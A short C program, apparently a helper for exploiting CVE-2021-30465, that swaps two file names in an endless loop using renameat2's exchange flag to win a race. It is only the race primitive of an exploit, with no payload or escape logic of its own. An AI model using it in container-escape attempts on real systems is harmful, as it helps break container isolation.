// exchange A B: swaps two names as fast as it can until it is killed (CVE-2021-30465's race).
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { kExchange = 2 };

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], kExchange) != 0) {
      perror("renameat2");
      return 1;
    }
}
